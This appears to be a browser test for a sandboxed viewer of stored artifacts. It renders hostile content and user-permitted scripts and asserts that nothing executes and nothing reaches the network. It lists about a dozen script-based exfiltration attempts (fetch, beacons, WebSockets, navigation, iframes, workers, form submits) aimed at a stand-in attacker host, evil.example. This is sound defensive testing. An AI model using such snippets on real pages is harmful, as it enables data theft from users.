// Stored content against the views: nothing runs, nothing leaves.

import assert from "node:assert/strict";
import type { Kind } from "../../../supabase/functions/mcp/artifacts/artifact.ts";
import { CORPUS, TITLES } from "./corpus.ts";
import { openHost, show, type Shown } from "./shown.ts";
import type { Home, Stage } from "./stage.ts";

const TIME = "2026-01-01T00:00:00+00:00";

/** A result as `artifact.view` gives it; the corpus need not fill a database first. */
function resultOf(kind: Kind, content: string, title: string) {
  const artifact = {
    id: "00000000-0000-4000-8000-000000000000",
    ...{
      title,
      kind,
      content,
      language: kind === "code" ? "xml" : null,
      tags: [title.slice(0, 50)],
    },
    ...{ size: content.length, version: 1, created_at: TIME, updated_at: TIME },
  };
  return { content: [], structuredContent: { note: "", artifact, offset: 0 } };
}

export async function attack({ browser, origin, home }: Stage): Promise<string> {
  const shown = await openHost(browser, origin);
  let tried = 0;
  for (const [kind, contents] of Object.entries(CORPUS) as [Kind, string[]][]) {
    for (const [i, content] of contents.entries()) {
      const title = TITLES[i % TITLES.length] ?? "";
      await attempt(shown, kind, content, title);
      assert.deepEqual([shown.executions, home.connections], [[], 0], `${kind}: ${content}`);
      tried++;
    }
  }
  assert.deepEqual(shown.errors, []);
  await expectToBeSeen(shown, home);
  const leaking = await scriptsThatCallHome(shown, home);
  await shown.page.close();
  return `${tried} attacks by content and title: 0 executions, 0 connections; ${leaking}`;
}

/** What runs and what leaves would have been noticed. */
async function expectToBeSeen(shown: Shown, home: Home): Promise<void> {
  // deno-lint-ignore no-console -- the sign by which the attacks would be known
  await shown.page.evaluate(() => console.log("EXECUTED by the host"));
  await shown.page.evaluate(() => fetch("http://evil.example/").catch(() => {}));
  assert.deepEqual(shown.executions.splice(0), ["EXECUTED by the host"]);
  assert.ok(home.connections > 0 && home.requests > 0);
  home.connections = home.requests = 0;
  shown.errors.length = 0;
}

async function attempt(shown: Shown, kind: Kind, content: string, title: string): Promise<void> {
  const call = { name: "artifact.view", arguments: {} };
  await show(shown, call, resultOf(kind, content, title));
  assert.equal(await shown.view.locator("header h1").textContent(), title);
  if (kind === "mermaid") {
    await shown.view.locator(".diagram .problem, .diagram iframe[style]").first().waitFor();
  }
  // Links are clicked, since some attacks wait for that.
  for (const link of await shown.view.locator("main a[href]").all()) {
    await link.click({ timeout: 1_000 }).catch(() => {});
    await shown.view.getByRole("button", { name: "Cancel" }).click({ timeout: 300 }).catch(
      () => {},
    );
  }
  const source = shown.view.getByRole("button", { name: "Source" });
  if (await source.count() > 0) await source.click();
}

/**
 * Once a person has let them run, scripts run; but they reach neither the view nor the network. That a frame
 * is led away is refused when the browser has connected already; it then sends nothing.
 */
async function scriptsThatCallHome(shown: Shown, home: Home): Promise<string> {
  const tries = [
    `fetch("http://evil.example/fetch")`,
    `new Image().src = "http://evil.example/image"`,
    `new WebSocket("ws://evil.example/socket")`,
    `navigator.sendBeacon("http://evil.example/beacon")`,
    `location = "http://evil.example/location"`,
    `top.location = "http://evil.example/top"`,
    `open("http://evil.example/window")`,
    `document.body.append(Object.assign(document.createElement("iframe"), { src: "http://evil.example/frame" }))`,
    `import("http://evil.example/module.js")`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('http://evil.example/worker')"])))`,
    `parent.document.body.append("EXECUTED"); console.log("EXECUTED in the view")`,
    `localStorage.x = 1; console.log("EXECUTED with storage")`,
    `const form = Object.assign(document.createElement("form"), { action: "http://evil.example/form" });
     document.body.append(form); form.submit()`,
  ];
  let ran = 0;
  for (const code of tries) {
    const html = `<p id="ran">no</p><script>ran.textContent = "yes";${code}</script>`;
    await show(shown, { name: "artifact.view", arguments: {} }, resultOf("html", html, "Scripts"));
    await shown.view.getByRole("button", { name: "Run scripts" }).click();
    // One that navigates away is gone, and has gone nowhere.
    await shown.view.frameLocator("iframe.frame").locator("#ran").getByText("yes")
      .waitFor({ timeout: 1_500 }).then(() => ran++, () => {});
    assert.deepEqual([shown.executions, home.requests], [[], 0], code);
  }
  assert.ok(ran >= tries.length - 3, `${ran} ran`);
  return `${tries.length} scripts that were let run reached nothing`;
}
